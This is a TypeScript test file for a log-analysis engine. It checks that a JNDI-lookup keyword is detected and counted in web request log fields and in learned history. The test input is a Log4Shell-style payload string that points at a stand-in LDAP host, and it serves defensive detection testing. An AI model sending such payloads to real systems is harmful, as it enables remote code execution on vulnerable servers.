/** Keywords of requests whose parts are fields, as parsers before the filter leave them, or loggers write them. */
import { describe, expect, it } from "vitest";
import { defaultKeywords } from "../../../host/config/defaultKeywords.js";
import { Engine } from "../../../host/wasm/engine.js";
import { learnText } from "../../support/learning.js";
import { tagsOf } from "../../support/tagging.js";

const lookup = "$" + "{jndi:ldap://x.example/a}";
const request = { remote: "198.51.100.7", method: "GET", path: "/cart", code: 200, agent: "curl/8", referer: "-" };
const keywords = (record: object | string) =>
  tagsOf<{ keyword?: string; count?: number }>(
    new Engine(),
    `${typeof record === "string" ? record : JSON.stringify(record)}\n`,
  ).map((tag) => [tag?.keyword, tag?.count]);
const told = [["jndi lookup", 1]];

describe("a keyword in a request that came as fields", () => {
  it.each(["path", "agent", "referer"])("is found in its %s where there is no message", (name) => {
    expect(keywords({ ...request, [name]: `/${lookup}` })).toEqual(told);
    expect(keywords(request)).toEqual([[undefined, undefined]]);
  });

  it("is found beside a message that says something else, and counts once where both have it", () => {
    const handled = { level: "info", msg: "handled request", status: 200 };
    const inside = (uri: string, agent: string) => ({
      ...handled,
      request: { remote_ip: "198.51.100.7", method: "GET", uri, headers: { "User-Agent": [agent] } },
    });
    expect(keywords(inside(`/?q=${lookup}`, "curl/8"))).toEqual(told);
    expect(keywords(inside("/", lookup))).toEqual(told);
    expect(keywords({ ...inside(`/?q=${lookup}`, lookup), msg: `handled ${lookup}` })).toEqual(told);
    expect(keywords(`level=info msg=handled method=GET path=/?q=${lookup} status=200 agent="${lookup}"`)).toEqual(told);
    expect(keywords(inside("/", "curl/8"))).toEqual([[undefined, undefined]]);
  });

  it("is counted there by learning as well", async () => {
    const past = Array.from({ length: 3000 }, (_, i) =>
      JSON.stringify({
        ...request,
        remote: ["192.0.2.7", "198.51.100.7", "203.0.113.7", "10.1.1.7"][i % 4],
        path: i % 3 ? `/items/${i % 9}?q=${lookup}` : "/cart",
      }),
    );
    const { store } = await learnText(`${past.join("\n")}\n`);
    expect(store.keywords.of(defaultKeywords.find(({ name }) => name === "jndi lookup")!)?.lines).toBe(2000);
  });
});
